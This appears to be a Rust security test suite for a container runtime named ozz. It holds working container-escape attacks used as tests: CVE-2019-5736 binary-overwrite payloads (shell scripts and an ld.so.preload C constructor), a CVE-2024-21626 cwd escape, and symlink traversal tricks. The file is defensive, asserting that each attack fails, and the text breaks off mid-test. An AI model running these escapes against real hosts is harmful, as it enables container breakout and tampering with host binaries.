//! Security: what a container must never reach of the host — the runtime
//! binary (CVE-2019-5736), host descriptors, host directories through cwd
//! (CVE-2024-21626) or symlinked mount destinations, the host's processes —
//! and IDs that could escape the state directory.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::json;
use spec_tests::*;

/// A private copy of the ozz binary, run instead of the real one by the
/// tests that attack it, so a successful attack cannot break the suite.
struct OzzCopy {
    path: PathBuf,
    original: Vec<u8>,
    /// OZZ_EXE_SEAL for every invocation (None: the default, auto).
    seal: Option<&'static str>,
    /// Run every invocation from a read-only bind mount of the copy, made in
    /// a private mount namespace of its own (nothing is left on the host).
    read_only_mount: bool,
}

impl OzzCopy {
    fn new(tag: &str) -> OzzCopy {
        OzzCopy::new_in(&workspace().join("target/spec-tests"), tag)
    }

    fn new_in(dir: &Path, tag: &str) -> OzzCopy {
        let original = std::fs::read(ozz_bin()).expect("read the ozz binary");
        std::fs::create_dir_all(dir).unwrap();
        let path = dir.join(format!("ozz-copy-{}-{tag}", std::process::id()));
        // why: written by another process, so the file is never open for
        // writing in this one: a child forked meanwhile by another test
        // thread would hold that descriptor until its exec, and running the
        // copy then fails with ETXTBSY (seen once in seven runs).
        let installed = Command::new("install")
            .args(["-m", "755"])
            .arg(ozz_bin())
            .arg(&path)
            .status()
            .expect("run install");
        assert!(installed.success(), "install the ozz copy");
        OzzCopy {
            path,
            original,
            seal: None,
            read_only_mount: false,
        }
    }

    fn cmd(&self, args: &[&str]) -> Command {
        let mut cmd = if self.read_only_mount {
            let mut cmd = Command::new("unshare");
            cmd.args(["--mount", "--propagation", "private", "sh", "-c"])
                .arg(r#"mount -o bind,ro "$0" "$0" && exec "$0" "$@""#)
                .arg(&self.path);
            cmd
        } else {
            Command::new(&self.path)
        };
        cmd.arg("--root").arg(state_root()).args(args);
        cmd.stdin(Stdio::null());
        if let Some(seal) = self.seal {
            cmd.env("OZZ_EXE_SEAL", seal);
        }
        cmd
    }

    fn run(&self, args: &[&str]) -> Output {
        self.cmd(args).output().expect("run the ozz copy")
    }

    /// Runs with stdio on /dev/null, for commands whose processes outlive
    /// us and would hold our pipes open (create, exec --detach).
    fn run_quiet(&self, args: &[&str]) -> bool {
        let status = self
            .cmd(args)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        status.expect("run the ozz copy").success()
    }

    fn create(&self, b: &Bundle) {
        b.write();
        let created = self.run_quiet(&["create", "--bundle", b.dir.to_str().unwrap(), &b.id]);
        assert!(created, "create with the ozz copy failed");
    }

    /// create + start (the container outlives us).
    fn create_and_start(&self, b: &Bundle) {
        self.create(b);
        let out = self.run(&["start", &b.id]);
        assert!(out.status.success(), "start: {}", stderr(&out));
    }

    fn assert_unchanged(&self) {
        let now = std::fs::read(&self.path).expect("read the ozz copy");
        assert!(
            now == self.original,
            "the runtime binary was modified from inside the container"
        );
    }
}

impl Drop for OzzCopy {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.path);
    }
}

/// A writable private copy of the shared rootfs, removed on drop.
struct PrivateRootfs(PathBuf);

impl PrivateRootfs {
    fn new(tag: &str) -> PrivateRootfs {
        let dir = workspace().join(format!(
            "target/spec-tests/rootfs-{}-{}",
            std::process::id(),
            unique_id(tag)
        ));
        let status = Command::new("cp")
            .arg("-a")
            .arg(shared_rootfs())
            .arg(&dir)
            .status()
            .unwrap();
        assert!(status.success(), "cp -a rootfs");
        PrivateRootfs(dir)
    }
}

impl Drop for PrivateRootfs {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// A host directory outside every rootfs, with a marker file in it.
struct HostMarker {
    dir: PathBuf,
    secret: String,
}

impl HostMarker {
    fn new(tag: &str) -> HostMarker {
        let dir = PathBuf::from(format!("/tmp/ozz-host-marker-{}", unique_id(tag)));
        std::fs::create_dir_all(&dir).unwrap();
        let secret = format!("host-secret-{}", unique_id("s"));
        std::fs::write(dir.join("marker"), &secret).unwrap();
        HostMarker { dir, secret }
    }

    fn assert_untouched(&self) {
        let names: Vec<String> = std::fs::read_dir(&self.dir)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names, vec!["marker".to_string()], "host dir changed");
        assert_eq!(
            std::fs::read_to_string(self.dir.join("marker")).unwrap(),
            self.secret
        );
        let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
        assert!(
            !mountinfo.contains(self.dir.to_str().unwrap()),
            "a mount appeared on the host at {:?}",
            self.dir
        );
    }
}

impl Drop for HostMarker {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.dir);
    }
}

fn add_tmpfs(b: &mut Bundle, dest: &str) {
    b.config["mounts"].as_array_mut().unwrap().push(json!({
        "destination": dest, "type": "tmpfs", "source": "tmpfs", "options": ["mode=1777"]
    }));
}

/// The scanner of CVE-2019-5736: look for any process whose executable is
/// not the container's busybox (that is the runtime) and try to open it for
/// writing through /proc/PID/exe. Logs what it saw and any success.
const EXE_SCANNER: &str = r#"
while :; do
  for d in /proc/[0-9]*; do
    e=$(readlink $d/exe 2>/dev/null) || continue
    case "$e" in ""|/bin/busybox) ;; *)
      grep -qxF "SAW $e" /tmp/scan.log 2>/dev/null || echo "SAW $e" >> /tmp/scan.log
      if (: > $d/exe) 2>/dev/null; then echo "WROTE $e" >> /tmp/scan.log; fi
      if (echo x >> $d/exe) 2>/dev/null; then echo "WROTE $e" >> /tmp/scan.log; fi
    ;; esac
  done
done
"#;

#[test]
fn cve_2019_5736_runtime_binary_not_writable_during_exec() {
    let ozz = OzzCopy::new("scan");
    let mut b = bundle("cve-5736-scan", &["sh", "-c", EXE_SCANNER]);
    b.add_caps(&["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"]);
    add_tmpfs(&mut b, "/tmp");
    ozz.create_and_start(&b);
    for _ in 0..40 {
        let out = ozz.run(&["exec", &b.id, "sh", "-c", "sleep 0.02; echo ok"]);
        assert!(out.status.success(), "exec: {}", stderr(&out));
        assert_eq!(stdout(&out), "ok\n");
    }
    let log = ozz.run(&[
        "exec",
        &b.id,
        "sh",
        "-c",
        "cat /tmp/scan.log 2>/dev/null; true",
    ]);
    let log = stdout(&log);
    eprintln!("scanner log:\n{log}");
    assert!(!log.contains("WROTE"), "{log}");
    ozz.assert_unchanged();
}

/// The original exploit: a script whose interpreter is /proc/self/exe makes
/// the runtime's own binary run in the container, where the container's
/// dynamic loader loads a library named in /etc/ld.so.preload. Its
/// constructor opens /proc/self/exe for writing, and keeps an O_PATH fd to
/// reopen it for writing after the runtime has exited.
#[test]
fn cve_2019_5736_proc_self_exe_shebang() {
    // The default view (read-only overlay where possible) and the memfd
    // fallback: both must keep the host binary intact.
    for seal in ["auto", "memfd"] {
        shebang_attack(seal);
    }
}

fn shebang_attack(seal: &'static str) {
    let mut ozz = OzzCopy::new(&format!("shebang-{seal}"));
    ozz.seal = Some(seal);
    let rootfs = PrivateRootfs::new("shebang");
    let root = &rootfs.0;
    std::fs::write(root.join("evil.sh"), "#!/proc/self/exe\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(root.join("evil.sh"), std::fs::Permissions::from_mode(0o755)).unwrap();
    // Give the container the loader and libraries ozz needs, plus the payload.
    // A static ozz has no loader for ld.so.preload to hijack: that vector
    // does not exist, and the exec must still reach ozz itself (its usage
    // error proves /proc/self/exe ran the runtime inside the container).
    let is_static = !has_interpreter(&ozz.path);
    let have_payload = !is_static && install_loader_and_payload(&ozz.path, root);
    let mut b = bundle("cve-5736-shebang", &["sleep", "100"]);
    b.config["root"]["path"] = json!(root);
    add_tmpfs(&mut b, "/tmp");
    ozz.create_and_start(&b);
    for _ in 0..3 {
        let out = ozz.run(&["exec", &b.id, "/evil.sh"]);
        eprintln!(
            "[{seal}] exec /evil.sh: {:?} {}{}",
            out.status.code(),
            stdout(&out),
            stderr(&out)
        );
        if is_static {
            assert!(
                stderr(&out).contains("unrecognized subcommand"),
                "[{seal}] /proc/self/exe did not run ozz: {}",
                stderr(&out)
            );
        }
    }
    if have_payload {
        // Let the payload's background loop retry after ozz has exited.
        std::thread::sleep(std::time::Duration::from_millis(2500));
        let out = ozz.run(&["exec", &b.id, "cat", "/tmp/exploit.log"]);
        let log = stdout(&out);
        eprintln!("[{seal}] payload log:\n{log}");
        assert!(
            log.contains("direct-open:"),
            "[{seal}] the payload never ran, the test proves nothing: {log}{}",
            stderr(&out)
        );
        // A sealed memfd may be opened for writing, but never written.
        assert!(
            !log.contains("write: OK") && !log.contains("WROTE"),
            "[{seal}] {log}"
        );
        assert!(log.contains("loop-done"), "[{seal}] {log}");
    }
    ozz.assert_unchanged();
}

/// The holder of CVE-2019-5736's second step, run in a created container
/// whose pid 1 is still the runtime: it keeps the runtime's binary open
/// through /proc/1/exe, waits until the container has started (pid 1 became
/// busybox, so the runtime's file is no longer busy), then reopens it for
/// writing through its descriptor, as the exploit does.
const EXE_HOLDER: &str = r#"
exec 9</proc/1/exe || exit 1
readlink /proc/1/exe > /tmp/exe.tmp; mv /tmp/exe.tmp /tmp/exe
while [ "$(readlink /proc/1/exe)" != /bin/busybox ]; do sleep 0.05; done
if (echo pwned > /proc/self/fd/9) 2>/tmp/err; then r=WROTE; else r=refused; fi
echo "$r $(cat /tmp/err)" > /tmp/result.tmp; mv /tmp/result.tmp /tmp/result
exec sleep 100
"#;

/// Reads `path` in the container until it exists (10 s at most), with the
/// suite's own binary: the copy may be the one the attack broke.
fn read_when_there(id: &str, path: &str) -> String {
    for _ in 0..200 {
        let out = ozz(&["exec", id, "cat", path]);
        if out.status.success() {
            return stdout(&out);
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    panic!("{path} never appeared in the container");
}

/// A container cannot write the runtime's binary: not while the runtime
/// waits as its pid 1, nor through a descriptor kept until the runtime is
/// gone. On a writable filesystem ozz runs from a sealed view of its binary;
/// on a read-only mount it runs the binary itself, without the re-exec.
#[test]
fn cve_2019_5736_binary_held_across_start() {
    exe_holder_attack(false);
    exe_holder_attack(true);
}

fn exe_holder_attack(read_only_mount: bool) {
    let tag = if read_only_mount { "ro-mount" } else { "rw" };
    let mut ozz = if read_only_mount && Path::new("/dev/shm").is_dir() {
        // On tmpfs, whose files answer F_GET_SEALS as memfds do: the
        // read-only mount must still be seen.
        OzzCopy::new_in(Path::new("/dev/shm"), &format!("holder-{tag}"))
    } else {
        OzzCopy::new(&format!("holder-{tag}"))
    };
    ozz.read_only_mount = read_only_mount;
    if is_ozz() && read_only_mount {
        // The trace shows which way the command went.
        let b = bundle("cve-5736-ro-trace", &["true"]);
        b.write();
        let out = ozz
            .cmd(&["run", "--bundle", b.dir.to_str().unwrap(), &b.id])
            .env("OZZ_TRACE", "1")
            .output()
            .unwrap();
        assert!(out.status.success(), "run: {}", stderr(&out));
        let trace = stderr(&out);
        assert!(
            trace.contains("seal: already protected, no re-exec")
                && !trace.contains("seal: re-exec"),
            "a binary on a read-only mount should run without the re-exec:\n{trace}"
        );
    }
    let mut b = bundle(&format!("cve-5736-{tag}"), &["sleep", "100"]);
    b.add_caps(&["CAP_SYS_PTRACE", "CAP_DAC_OVERRIDE"]);
    add_tmpfs(&mut b, "/tmp");
    ozz.create(&b);
    let held = ozz.run_quiet(&["exec", "--detach", &b.id, "sh", "-c", EXE_HOLDER]);
    assert!(held, "exec --detach with the ozz copy failed");
    let exe = read_when_there(&b.id, "/tmp/exe");
    if is_ozz() {
        assert_eq!(
            pid1_runs_the_copy(&ozz, &b.id),
            read_only_mount,
            "[{tag}] pid 1 should run the binary itself only from a read-only mount"
        );
    }
    start_and_expect_refused(&ozz, &b.id, &format!("[{tag}] pid 1 ran {}", exe.trim()));
}

/// Whether the created container's pid 1 runs the copy's own file, not a
/// re-executed view of it (an overlayfs view has its own st_dev, a memfd
/// is another file).
fn pid1_runs_the_copy(ozz: &OzzCopy, id: &str) -> bool {
    use std::os::unix::fs::MetadataExt;
    let state: serde_json::Value = serde_json::from_str(&stdout(&ozz.run(&["state", id]))).unwrap();
    let pid = state["pid"].as_i64().unwrap();
    let running = std::fs::metadata(format!("/proc/{pid}/exe")).unwrap();
    let copy = std::fs::metadata(&ozz.path).unwrap();
    (running.dev(), running.ino()) == (copy.dev(), copy.ino())
}

/// Starts the container, then reads what its holder of pid 1's binary
/// found when it tried to write it: that must be a refusal, and the copy
/// must be as it was.
fn start_and_expect_refused(ozz: &OzzCopy, id: &str, what: &str) {
    let out = ozz.run(&["start", id]);
    assert!(out.status.success(), "start: {}", stderr(&out));
    let result = read_when_there(id, "/tmp/result");
    eprintln!("{what}; writing it: {result}");
    assert!(result.starts_with("refused"), "{what}: {result}");
    ozz.assert_unchanged();
}

/// For a container without CAP_SYS_PTRACE: ozz then runs its init from
/// the host's file, not dumpable, and has the sealed exec stub run the
/// program (no re-exec). Opening /proc/1/exe is refused while the init
/// waits; where a runtime lets it open (runc's init is a sealed copy, and
/// dumpable), the holder keeps it past start and tries to write it as
/// EXE_HOLDER does.
const EXE_OPENER: &str = r#"
if (: < /proc/1/exe) 2>/tmp/err; then
  exec 9</proc/1/exe
  echo opened > /tmp/opened.tmp; mv /tmp/opened.tmp /tmp/opened
  while [ "$(readlink /proc/1/exe)" != /bin/busybox ]; do sleep 0.05; done
  if (echo pwned > /proc/self/fd/9) 2>/tmp/err; then r=WROTE; else r=refused-write; fi
else
  echo refused > /tmp/opened.tmp; mv /tmp/opened.tmp /tmp/opened
  r=refused-open
fi
echo "$r $(cat /tmp/err)" > /tmp/result.tmp; mv /tmp/result.tmp /tmp/result
exec sleep 100
"#;

/// Without CAP_SYS_PTRACE (the default set), a process joining a created
/// container cannot write its pid 1's binary. ozz's pid 1 is the host's
/// file itself here, and only the init's dumpable flag keeps it out of
/// reach: the open must be refused.
#[test]
fn cve_2019_5736_init_binary_out_of_reach_without_ptrace() {
    let ozz = OzzCopy::new("opener");
    let mut b = bundle("cve-5736-opener", &["sleep", "100"]);
    add_tmpfs(&mut b, "/tmp");
    ozz.create(&b);
    if is_ozz() {
        assert!(
            pid1_runs_the_copy(&ozz, &b.id),
            "pid 1 should be the copy itself: the exec stub makes the re-exec needless"
        );
    }
    let tried = ozz.run_quiet(&["exec", "--detach", &b.id, "sh", "-c", EXE_OPENER]);
    assert!(tried, "exec --detach with the ozz copy failed");
    // Tried before start, while pid 1 is the runtime.
    let opened = read_when_there(&b.id, "/tmp/opened");
    if is_ozz() {
        assert_eq!(opened.trim(), "refused", "pid 1's binary was opened");
    }
    let what = format!("pid 1's binary from the container: {}", opened.trim());
    start_and_expect_refused(&ozz, &b.id, &what);
}

/// The exec stub's assumption, kept: a created container whose init runs
/// ozz's own binary (no CAP_SYS_PTRACE in its config) takes no process
/// with CAP_SYS_PTRACE until it has started, as that capability passes the
/// init's dumpable flag. After start the same exec runs. (runc 1.1.5, whose
/// init is a sealed copy, takes it at once.)
#[test]
fn cve_2019_5736_no_ptrace_process_beside_an_unsealed_init() {
    let b = bundle("cve-5736-ptrace-exec", &["sleep", "100"]);
    b.create_ok();
    let early = ozz(&["exec", "--cap", "CAP_SYS_PTRACE", &b.id, "true"]);
    if is_ozz() {
        assert!(
            !early.status.success(),
            "exec with CAP_SYS_PTRACE was let in"
        );
        let err = stderr(&early);
        assert!(
            err.contains("CAP_SYS_PTRACE") && err.contains("start"),
            "{err}"
        );
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        // A process without it is let in as before.
        let plain = ozz(&["exec", &b.id, "true"]);
        assert!(plain.status.success(), "{}", stderr(&plain));
    }
    let out = b.cmd("start", &[]);
    assert!(out.status.success(), "start: {}", stderr(&out));
    let late = ozz(&["exec", "--cap", "CAP_SYS_PTRACE", &b.id, "true"]);
    assert!(late.status.success(), "after start: {}", stderr(&late));
}

/// A container whose program is /proc/self/exe, directly or as the
/// interpreter of its script: the kernel resolves it while the runtime is
/// still pid 1, so the runtime's own binary would run in the container.
/// ozz has it resolve to the sealed exec stub, which refuses to run (exit
/// 127). (runc's is its sealed copy, which fails too.)
#[test]
fn cve_2019_5736_program_that_is_proc_self_exe() {
    let ozz = OzzCopy::new("self-exe");
    let rootfs = PrivateRootfs::new("self-exe");
    std::fs::write(rootfs.0.join("evil.sh"), "#!/proc/self/exe\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(
        rootfs.0.join("evil.sh"),
        std::fs::Permissions::from_mode(0o755),
    )
    .unwrap();
    for program in [&["/proc/self/exe"][..], &["/evil.sh"][..]] {
        let mut b = bundle("cve-5736-self-exe", program);
        b.config["root"]["path"] = json!(rootfs.0);
        b.write();
        let out = ozz.run(&["run", "--bundle", b.dir.to_str().unwrap(), &b.id]);
        let said = format!("{}{}", stdout(&out), stderr(&out));
        eprintln!("{program:?}: {:?} {said}", out.status.code());
        assert!(!out.status.success(), "{program:?} ran: {said}");
        if is_ozz() {
            assert_eq!(out.status.code(), Some(127), "{said}");
            assert!(said.contains("ozz exec stub"), "{said}");
        }
        let _ = ozz.run(&["delete", "--force", &b.id]);
    }
    ozz.assert_unchanged();
}

const PAYLOAD_C: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void payload(void) {
    int log = open("/tmp/exploit.log", O_WRONLY | O_CREAT | O_APPEND, 0644);
    int w = open("/proc/self/exe", O_WRONLY);
    dprintf(log, "direct-open: %s\n", w >= 0 ? "OPENED" : strerror(errno));
    if (w >= 0) {
        ssize_t n = write(w, "pwned", 5);
        dprintf(log, "write: %s\n", n == 5 ? "OK" : strerror(errno));
    }
    int p = open("/proc/self/exe", O_PATH);
    dprintf(log, "opath: %d\n", p);
    if (p >= 0 && p != 9) dup2(p, 9);
    if (fork() == 0) {
        setsid();
        char *argv[] = {"sh", "-c",
            "i=0; while [ $i -lt 40 ]; do "
            "if (echo pwned > /proc/self/fd/9) 2>/dev/null; then echo WROTE >> /tmp/exploit.log; fi; "
            "i=$((i+1)); sleep 0.05; done; echo loop-done >> /tmp/exploit.log", 0};
        execv("/bin/sh", argv);
        _exit(1);
    }
    _exit(0);
}
"#;

/// Copies ozz's loader and libraries into `root` and builds the payload as
/// /evil.so named in /etc/ld.so.preload. False when no C compiler exists
/// (the shebang is then still executed, without a payload).
fn install_loader_and_payload(binary: &Path, root: &Path) -> bool {
    let ldd = Command::new("ldd").arg(binary).output();
    let Ok(ldd) = ldd else {
        eprintln!("no ldd: payload not installed");
        return false;
    };
    for word in stdout(&ldd).split_whitespace() {
        if word.starts_with('/') && Path::new(word).exists() {
            let dest = root.join(word.trim_start_matches('/'));
            std::fs::create_dir_all(dest.parent().unwrap()).unwrap();
            // Follow symlinks: the copy is the real file under the link's name.
            std::fs::copy(word, &dest).unwrap();
        }
    }
    let src = root.join("payload.c");
    std::fs::write(&src, PAYLOAD_C).unwrap();
    let built = Command::new("cc")
        .args(["-shared", "-fPIC", "-o"])
        .arg(root.join("evil.so"))
        .arg(&src)
        .status();
    match built {
        Err(_) => {
            eprintln!("no C compiler (cc): payload not installed, only the shebang runs");
            return false;
        }
        Ok(s) => assert!(s.success(), "cc failed to build the payload"),
    }
    std::fs::write(root.join("etc/ld.so.preload"), "/evil.so\n").unwrap();
    true
}

fn fd_list(text: &str) -> Vec<u32> {
    let mut fds: Vec<u32> = text
        .split_whitespace()
        .filter_map(|w| w.parse().ok())
        .collect();
    fds.sort();
    fds
}

/// Runs `ozz run` from a host shell that first opens `redirs` without
/// close-on-exec (e.g. "3</etc/hostname"), passing `extra` to run.
fn run_with_open_fds(b: &Bundle, redirs: &str, extra: &[&str]) -> Output {
    b.write();
    let mut args = vec![
        "--root".to_string(),
        state_root().to_str().unwrap().to_string(),
        "run".to_string(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    args.extend([
        "--bundle".to_string(),
        b.dir.to_str().unwrap().to_string(),
        b.id.clone(),
    ]);
    Command::new("sh")
        .arg("-c")
        .arg(format!("exec {redirs}; exec \"$0\" \"$@\""))
        .arg(ozz_bin())
        .args(&args)
        .stdin(Stdio::null())
        .output()
        .unwrap()
}

#[test]
fn host_descriptors_do_not_reach_the_container() {
    let b = bundle("fds", &["ls", "/proc/self/fd"]);
    let out = run_with_open_fds(&b, "3</etc/hostname 4</etc/passwd 7</ 9</tmp", &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    // 0-2, and 3 for the directory ls itself opened.
    assert_eq!(fd_list(&stdout(&out)), vec![0, 1, 2, 3], "{}", stdout(&out));

    // The same for `ozz exec`.
    let b = bundle("fds-exec", &["sleep", "100"]);
    b.create_and_start();
    let out = Command::new("sh")
        .arg("-c")
        .arg("exec 3</etc/hostname 4</etc/passwd 7</ 9</tmp; exec \"$0\" \"$@\"")
        .arg(ozz_bin())
        .arg("--root")
        .arg(state_root())
        .args(["exec", &b.id, "ls", "/proc/self/fd"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(fd_list(&stdout(&out)), vec![0, 1, 2, 3], "{}", stdout(&out));
}

#[test]
fn preserve_fds_passes_exactly_the_asked_descriptors() {
    let marker = HostMarker::new("preserve");
    let b = bundle(
        "fds-preserve",
        &["sh", "-c", "cat <&3; echo; ls /proc/self/fd"],
    );
    let redirs = format!(
        "3<{} 4</etc/passwd 8</",
        marker.dir.join("marker").display()
    );
    let out = run_with_open_fds(&b, &redirs, &["--preserve-fds", "1"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = stdout(&out);
    let (first, rest) = text.split_once('\n').unwrap();
    assert_eq!(first, marker.secret);
    // 0-3, and 4 for the directory ls opened.
    assert_eq!(fd_list(rest), vec![0, 1, 2, 3, 4], "{text}");
}

/// A gap among the preserved descriptors is never filled by one of the
/// runtime's own (here the sealed exec stub ozz makes for the init): the
/// container sees the caller's descriptor 3 and, in the gap at 4, nothing
/// of the runtime's.
#[test]
fn a_gap_among_preserved_descriptors_takes_nothing_of_the_runtimes() {
    let b = bundle("fds-gap", &["ls", "-l", "/proc/self/fd/"]);
    let out = run_with_open_fds(&b, "3</etc/passwd 4<&-", &["--preserve-fds", "2"]);
    let text = format!("{}{}", stdout(&out), stderr(&out));
    assert!(out.status.success(), "{text}");
    assert!(text.contains("/etc/passwd"), "{text}");
    assert!(!text.contains("memfd") && !text.contains("ozz"), "{text}");
}

/// CVE-2024-21626: a cwd through /proc/self/fd/N must never land outside the
/// container's root, whatever descriptors the runtime or its caller hold.
#[test]
fn cwd_through_proc_self_fd_never_reaches_the_host() {
    let marker = HostMarker::new("cwd");
    let rel = format!("../../../../../../../..{}/marker", marker.dir.display());
    let script = format!("cat {rel} 2>/dev/null; cat /proc/self/cwd/{rel} 2>/dev/null; pwd");
    for n in 3..=12 {
        let mut b = bundle("cwd-fd", &["sh", "-c", &script]);
        b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        // The caller leaks host directories too, as in the original attack.
        let out = run_with_open_fds(&b, &format!("5<{} 6</ 7</tmp", marker.dir.display()), &[]);
        let text = stdout(&out);
        eprintln!(
            "cwd /proc/self/fd/{n}: {:?} {:?} {:?}",
            out.status.code(),
            text,
            stderr(&out).trim()
        );
        assert!(
            !text.contains(&marker.secret),
            "fd {n}: the host marker was read from the container: {text}"
        );
        if out.status.success() {
            assert!(
                !text.contains("unreachable"),
                "fd {n}: cwd outside the root: {text}"
            );
        } else {
            // One clear line: a bad directory, or the check of CVE-2024-21626.
            let err = stderr(&out);
            assert!(
                err.contains("outside of the container's root")
                    || err.contains("chdir to cwd")
                    || err.contains("create cwd"),
                "fd {n}: {err}"
            );
        }
        assert!(!state_root().join(&b.id).exists());
    }
    // ozz exec --cwd with the same trick.
    let b = bundle("cwd-fd-exec", &["sleep", "100"]);
    b.create_and_start();
    for n in 3..=12 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = ozz(&["exec", "--cwd", &cwd, &b.id, "sh", "-c", &script]);
        let text = stdout(&out);
        assert!(!text.contains(&marker.secret), "exec fd {n}: {text}");
        if out.status.success() {
            assert!(!text.contains("unreachable"), "exec fd {n}: {text}");
        }
    }
    marker.assert_untouched();
}

#[test]
fn mount_destination_through_a_symlink_stays_inside_the_rootfs() {
    let marker = HostMarker::new("mnt");
    // The symlink's target missing from the rootfs, then present in it.
    for target_in_rootfs in [false, true] {
        let rootfs = PrivateRootfs::new("mnt");
        let target = format!("/../../../../../../..{}", marker.dir.display());
        std::os::unix::fs::symlink(&target, rootfs.0.join("evil")).unwrap();
        let inside = rootfs.0.join(marker.dir.strip_prefix("/").unwrap());
        if target_in_rootfs {
            std::fs::create_dir_all(&inside).unwrap();
        }
        let mut b = bundle(
            "mnt-symlink",
            &[
                "sh",
                "-c",
                "touch /evil/pwned && echo touched; grep -c \" $(readlink -f /evil) \" /proc/self/mountinfo",
            ],
        );
        b.config["root"]["path"] = json!(rootfs.0);
        add_tmpfs(&mut b, "/evil");
        let out = b.run();
        eprintln!(
            "symlinked mount (target in rootfs: {target_in_rootfs}): {:?} {:?} {:?}",
            out.status.code(),
            stdout(&out),
            stderr(&out)
        );
        if out.status.success() || target_in_rootfs {
            // It landed on the symlink's target resolved inside the rootfs.
            let text = stdout(&out);
            assert!(text.starts_with("touched\n"), "{text}{}", stderr(&out));
            assert_eq!(text.lines().nth(1), Some("1"), "{text}");
            // A tmpfs: nothing of it stays in the rootfs's directory.
            assert_eq!(std::fs::read_dir(&inside).unwrap().count(), 0);
        } else {
            assert!(!state_root().join(&b.id).exists());
        }
        marker.assert_untouched();
    }
}

#[test]
fn masked_path_through_a_symlink_does_not_escape() {
    let marker = HostMarker::new("mask");
    let rootfs = PrivateRootfs::new("mask");
    let host_file = marker.dir.join("marker");
    std::os::unix::fs::symlink(
        format!("/../../../../../..{}", host_file.display()),
        rootfs.0.join("masklink"),
    )
    .unwrap();
    std::os::unix::fs::symlink("/etc/hostname", rootfs.0.join("masklink2")).unwrap();
    let mut b = bundle("mask-symlink", &["sh", "-c", "cat /etc/hostname; echo end"]);
    b.config["root"]["path"] = json!(rootfs.0);
    b.config["linux"]["maskedPaths"] = json!(["/masklink", "/masklink2"]);
    let out = b.run();
    eprintln!(
        "symlinked masks: {:?} {:?} {:?}",
        out.status.code(),
        stdout(&out),
        stderr(&out)
    );
    if out.status.success() {
        // /masklink2 masked the container's own /etc/hostname, nothing else.
        assert_eq!(stdout(&out), "end\n");
    }
    marker.assert_untouched();
    // The host can still read its file (it was not covered by /dev/null).
    assert_eq!(std::fs::read_to_string(&host_file).unwrap(), marker.secret);
}

#[test]
fn masking_refuses_a_fake_dev_null() {
    for kind in ["file", "symlink"] {
        let rootfs = PrivateRootfs::new("fakenull");
        let fakedev = rootfs.0.join("fakedev");
        std::fs::create_dir_all(&fakedev).unwrap();
        match kind {
            "file" => std::fs::write(fakedev.join("null"), "SECRET-FROM-FAKE-NULL").unwrap(),
            _ => std::os::unix::fs::symlink("/etc/passwd", fakedev.join("null")).unwrap(),
        }
        let mut b = bundle("fakenull", &["sh", "-c", "cat /etc/hostname; echo end"]);
        b.config["root"]["path"] = json!(rootfs.0);
        let mounts = b.config["mounts"].as_array_mut().unwrap();
        mounts.retain(|m| {
            m["destination"] != "/dev" && !m["destination"].as_str().unwrap().starts_with("/dev/")
        });
        mounts.push(json!({
            "destination": "/dev", "type": "bind",
            "source": fakedev, "options": ["rbind", "rw"]
        }));
        b.config["linux"]["maskedPaths"] = json!(["/etc/hostname"]);
        let out = b.run();
        assert!(
            !out.status.success(),
            "{kind}: masking used a fake /dev/null: {}",
            stdout(&out)
        );
        assert!(
            stderr(&out).contains("/dev/null is not the null device"),
            "{kind}: {}",
            stderr(&out)
        );
        assert!(!state_root().join(&b.id).exists());
    }
}

#[test]
fn more_bad_ids_are_refused() {
    let b = bundle("badid2", &["true"]);
    b.write();
    for id in [
        ".",
        "",
        "a\tb",
        "esc\x1b[31m",
        "del\x7f",
        "/abs",
        "x/../y",
        "a b",
        "cr\rid",
        &"x".repeat(5000),
    ] {
        let out = ozz(&["create", "--bundle", b.dir.to_str().unwrap(), id]);
        assert!(!out.status.success(), "{id:?} accepted");
        assert_eq!(
            stderr(&out).trim().lines().count(),
            1,
            "{id:?}: {}",
            stderr(&out)
        );
        let out = ozz(&["state", id]);
        assert!(!out.status.success(), "state {id:?}");
    }
    // Nothing was created beside or above the state root.
    let names: Vec<String> = std::fs::read_dir(state_root())
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        names
            .iter()
            .all(|n| !n.starts_with("esc") && !n.starts_with("del") && n != "y"),
        "{names:?}"
    );
    assert!(!Path::new("/abs").exists() && !state_root().join("abs").exists());
}

#[test]
fn pid_namespace_hides_the_hosts_processes() {
    let me = std::process::id();
    let b = bundle(
        "pidns",
        &[
            "sh",
            "-c",
            "sleep 100 & echo /proc/[0-9]*; echo ---; ps -o pid,comm",
        ],
    );
    let out = b.run_ok();
    let (listing, ps) = out.split_once("---\n").unwrap();
    // The glob is expanded by sh itself: sh (pid 1) and sleep, nothing of
    // the host (whose processes include this test, pid `me`).
    let mut pids: Vec<u32> = listing
        .split_whitespace()
        .map(|p| p.trim_start_matches("/proc/").parse().unwrap())
        .collect();
    pids.sort();
    assert_eq!(pids.len(), 2, "{out}");
    assert_eq!(pids[0], 1);
    assert!(!pids.contains(&me) || me <= 3, "{out}");
    // busybox sh execs its last command, so ps replaced sh as pid 1 and
    // sees exactly the same two processes.
    let mut ps_pids: Vec<u32> = ps
        .lines()
        .skip(1)
        .map(|r| r.split_whitespace().next().unwrap().parse().unwrap())
        .collect();
    ps_pids.sort();
